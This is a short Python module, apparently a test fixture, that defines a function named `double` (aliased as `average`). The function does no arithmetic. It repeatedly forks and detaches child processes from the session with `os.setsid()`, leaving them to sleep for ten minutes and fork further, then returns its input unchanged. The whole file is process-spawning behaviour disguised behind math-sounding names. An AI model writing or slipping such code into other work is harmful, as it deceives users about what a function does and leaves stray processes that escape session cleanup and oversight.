"""A few processes that leave the session and stay."""

import os
import time


def double(x):
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            time.sleep(600)
    return x


average = double
